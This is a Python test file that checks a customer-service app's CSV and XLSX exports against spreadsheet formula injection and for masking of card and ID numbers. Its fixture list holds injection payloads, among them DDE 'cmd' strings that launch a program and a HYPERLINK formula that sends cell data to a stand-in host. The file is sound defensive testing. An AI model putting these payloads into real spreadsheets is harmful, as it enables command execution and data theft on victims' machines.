"""Exports hold no live formula and no customer number (issue 20, items 1 and 3).

A product named `=HYPERLINK(…)` or `=cmd|' /C calc'!A0` used to become a live formula in
the report XLSX, and cells starting with = + - @ passed into FAQ, report and directory
CSV. Each file is written by the real export and read back the way a spreadsheet would.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import openpyxl
import pytest
from sqlalchemy import delete, select

from liaison_app.core.directory.csv_transfer import export_directory, import_directory
from liaison_app.core.export_cells import is_formula_like
from liaison_app.core.faq.export import export_faq
from liaison_app.core.faq.file_import import import_faq
from liaison_app.core.models import Category, Contact, Department, FaqEntry
from liaison_app.core.reports.base import Figure, Report, Table
from liaison_app.core.reports.export import write_csv, write_xlsx
from liaison_app.core.reports.period import Period
from tests import factories

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"點我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",  # after leading spaces
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals, which Excel on Chinese Windows also reads
]
CARD = "6222\u00a00212\u00a03456\u00a07890"


def _csv_cells(path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _no_live_formula(cells) -> None:
    for cell in cells:
        assert not is_formula_like(cell), repr(cell)


def _report() -> Report:
    rows = [[text, 3, f"客戶卡號 {CARD}"] for text in HOSTILE]
    return Report(name="volume", title="=1+1 報表", period=Period("week", date(2026, 3, 2), date(2026, 3, 8), UTC),
                  generated_at=datetime(2026, 3, 9, tzinfo=UTC),
                  figures=[Figure("n", "=cmd|' /C calc'!A0", 9)],
                  tables=[Table(key="products", title="產品", columns=["product", "n", "note"],
                                headers=["產品", "數量", "@備註"], rows=rows)],
                  notes=["-1+1 note"])


def test_report_csv_has_no_formula_and_no_card_number(tmp_path):
    path = write_csv(_report(), tmp_path / "r.csv")
    cells = _csv_cells(path)
    _no_live_formula(cells)
    assert any(cell.endswith("=cmd|' /C calc'!A0") for cell in cells)  # kept, as text
    assert "0212" not in path.read_text(encoding="utf-8-sig")
    assert "7890" in path.read_text(encoding="utf-8-sig")


def test_report_xlsx_cells_are_text_never_formulas(tmp_path):
    path = write_xlsx(_report(), tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(path)  # formulas kept as formulas when there are any
    strings = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    strings.append(cell.value)
    _no_live_formula(strings)
    assert 3 in [c.value for c in book.worksheets[1]["B"]]  # numbers stay numbers
    assert not any("0212" in s for s in strings)


def test_faq_csv_is_safe_and_reads_back_as_written(db, tmp_path):
    with db.sessions.begin() as s:
        for n, text in enumerate(HOSTILE):
            factories.faq_entry(s, f"{text} 問題{n}", f"{text} 答案")
    path = tmp_path / "faq.csv"
    with db.session() as s:
        export_faq(s, path, "csv")
    _no_live_formula(_csv_cells(path))
    with db.session() as s:
        # The import trims the text around a cell, as it always has.
        before = sorted((q.strip(), a.strip()) for q, a in
                        s.execute(select(FaqEntry.question, FaqEntry.answer)))
    with db.sessions.begin() as s:
        s.execute(delete(FaqEntry))
        s.execute(delete(Category))
    with db.sessions.begin() as s:
        result = import_faq(s, path, actor="test")
    assert result.errors == []
    with db.session() as s:
        after = sorted(tuple(r) for r in s.execute(select(FaqEntry.question, FaqEntry.answer)))
    assert after == before


@pytest.mark.parametrize("fmt", ["html", "md", "jsonl", "csv"])
def test_every_faq_export_format_masks_customer_numbers(db, tmp_path, fmt):
    """An entry drafted from a customer's question may still carry their card or ID
    number; no export format lets it out (the last four digits stay, as in mail)."""
    with db.sessions.begin() as s:
        entry = factories.faq_entry(s, f"卡號 {CARD} 被吞了怎麼辦", "身份證 11010519491231002X 的客戶請臨櫃")
        entry.key_points = [f"核對卡號 {CARD}"]
    path = tmp_path / f"faq.{fmt}"
    with db.session() as s:
        export_faq(s, path, fmt)
    text = path.read_bytes().decode("utf-8-sig")
    assert "0212" not in text and "3456" not in text
    assert "1101051949" not in text
    assert "7890" in text and "002X" in text  # the tail an agent reads back to the customer


@pytest.mark.parametrize("hostile", HOSTILE[:6])
def test_directory_csv_is_safe_and_reads_back_as_written(db, tmp_path, hostile):
    with db.sessions.begin() as s:
        dept = factories.department(s, "信用卡部", duties=hostile.strip())
        factories.contact(s, dept, "王麗", email="wang@bank.example", phone="+852 2233 3000")
    path = tmp_path / "dir.csv"
    with db.session() as s:
        export_directory(s, path)
    _no_live_formula(_csv_cells(path))
    with db.sessions.begin() as s:
        import_directory(s, path)
    with db.session() as s:
        assert s.scalar(select(Department.duties)) == hostile.strip()
        assert s.scalar(select(Contact.phone)) == "+852 2233 3000"  # staff numbers kept
